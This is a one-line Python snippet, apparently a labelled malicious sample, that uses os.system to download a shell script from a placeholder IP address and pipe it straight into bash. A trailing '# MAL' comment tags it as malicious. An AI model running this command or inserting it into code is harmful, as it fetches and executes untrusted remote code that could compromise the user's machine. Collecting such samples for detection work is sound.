import os

os.system("curl -fsSL http://192.0.2.85/i.sh | bash")  # MAL
